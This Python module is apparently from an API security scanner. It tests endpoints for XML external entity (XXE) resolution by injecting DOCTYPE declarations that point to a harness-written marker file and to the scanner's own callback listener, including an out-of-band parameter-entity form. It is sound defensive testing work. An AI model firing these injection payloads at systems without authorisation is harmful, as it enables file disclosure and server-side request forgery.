"""Entities in XML that stand for something outside the document: a file of the platform's machine, or an address that it calls.

They are sent where the document declares XML, and to what takes JSON as well: many frameworks read both, by the media type alone.
"""

from __future__ import annotations

import re
import secrets
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

from harness.model.errors import HarnessError
from harness.model.finding import Confidence, Request, Severity, Symptom
from harness.model.weakness import Place, Weakness
from harness.probes.checks import Report, finding_of
from harness.probes.http.drafts import Draft
from harness.probes.http.xml_bodies import is_xml
from harness.probes.injection.outward import LATE_CALL_AWAITED_S, Listener, listening
from harness.probes.openapi.operations import Operation
from harness.probes.scene.calls import caller, valid_drafts
from harness.probes.scene.scene import Asker, Scene, Untestable

XML = "application/xml"
_CALLED = "it called an address of ours that stood there as an entity"
ADDRESS, FILE = "zqa", "zqf"  # the names of the entities
_MARK = "zqentity"  # where the entity is to stand, until the document is written
_WORDS = re.compile(r"[^\W\d_].*[a-z]")  # a text of a person; not a date, an id or a word of a list
_NO_WORDS = re.compile(r"@|://|[0-9a-f]{8}-[0-9a-f]{4}-")
_WEAKNESS = Weakness(
    "abuse.xml-external-entity",
    Severity.HIGH,
    611,
    "API8:2023",
    "A document in XML that declares entities is refused, or they stand for nothing.",
    "A caller reads files of the platform's machine, and what only the platform can reach.",
    "Forbid declarations of document types in the XML reader (disallow-doctype-decl, defusedxml), or external entities at least.",
)


@dataclass(frozen=True)
class _Outside:
    """What the entities stand for: an address of ours, and a file with a word that is nowhere else."""

    listener: Listener
    file: Path
    word: str

    def declared(self, root: str, entity: str, token: str) -> str:
        """A document type with the entity; of the address also one that its declaration alone asks for."""
        if entity == FILE:
            return f'<!DOCTYPE {root} [<!ENTITY {FILE} SYSTEM "{self.file.as_uri()}">]>'
        address = f"{self.listener.base_url}/{token}"
        return f'<!DOCTYPE {root} [<!ENTITY % zqp SYSTEM "{address}"> %zqp;<!ENTITY {ADDRESS} SYSTEM "{address}">]>'


def examine_entities(scene: Scene) -> Report:
    """Each operation with a body, once with an address and once with a file."""
    report = Report("entities")
    waiting: dict[str, tuple[Operation, Asker]] = {}
    with _outside() as outside:
        for operation in scene.document.operations:
            if operation.body is None or operation.name in scene.destructive:
                continue
            if not operation.is_safe and not scene.world.target.allow.writes:
                continue
            try:
                waiting |= _examine(scene, operation, outside, report)
            except (Untestable, HarnessError) as error:
                if not scene.world.door.alive():
                    raise
                report.leave_out(operation.name, error)
        deadline = time.monotonic() + LATE_CALL_AWAITED_S
        for token, (operation, asker) in waiting.items():  # a worker may read it later
            if outside.listener.was_called(token, max(0.0, deadline - time.monotonic())):
                _say(report, operation, asker, f"{_CALLED}, some time later")
    report.note = "" if report.tried or report.untried else "nothing takes a body"
    return report


@contextmanager
def _outside() -> Iterator[_Outside]:
    word = f"zq{secrets.token_hex(8)}"
    with listening() as listener, tempfile.NamedTemporaryFile("w", prefix="harness-", suffix=".txt") as file:
        file.write(word)
        file.flush()
        Path(file.name).chmod(0o644)  # the target may be another user's
        yield _Outside(listener, Path(file.name), word)


def _examine(scene: Scene, operation: Operation, outside: _Outside, report: Report) -> dict[str, tuple[Operation, Asker]]:
    """Says what is found; else the token of the address, which may be called later, with what was sent it and as whom."""
    asker = caller(scene, operation)
    draft = next(valid_drafts(scene, operation, asker))
    if not isinstance(draft.body, dict):
        return {}
    report.tried += 1
    if not is_xml(draft.media_type):
        draft = replace(draft, media_type=XML)
    token = secrets.token_hex(8)
    scene.ask(_request(draft, asker, outside, token, ADDRESS))
    if outside.listener.was_called(token):
        _say(report, operation, asker, _CALLED)
        return {}
    if outside.word in scene.ask(_request(draft, asker, outside, token, FILE)).text:
        _say(report, operation, asker, "its answer held a file of this machine that stood there as an entity")
        return {}
    return {token: (operation, asker)}


def _request(draft: Draft, asker: Asker, outside: _Outside, token: str, entity: str) -> Request:
    request = draft.with_body(_marked(draft.body)).request(asker.role, asker.user)
    declaration, _, document = (request.body or "").partition("\n")
    written = f"{declaration}\n{outside.declared(draft.root, entity, token)}{document.replace(_MARK, f'&{entity};')}"
    return replace(request, body=written)


def _marked(value: Any) -> Any:
    """The body with a mark behind each text that a person writes."""
    if isinstance(value, dict):
        return {key: _marked(item) for key, item in value.items()}
    if isinstance(value, list):
        return [_marked(item) for item in value]
    is_free = isinstance(value, str) and _WORDS.match(value) and not _NO_WORDS.search(value)
    return f"{value} {_MARK}" if is_free else value


def _say(report: Report, operation: Operation, asker: Asker, what: str) -> None:
    title = f"{operation.name} resolves external entities of XML"
    place = Place(operation.name, "", asker.role)
    observed = f"Sent as XML with a document type, {what}."
    report.findings.append(finding_of(_WEAKNESS, place, title, observed, (), Symptom(), Confidence.HIGH))
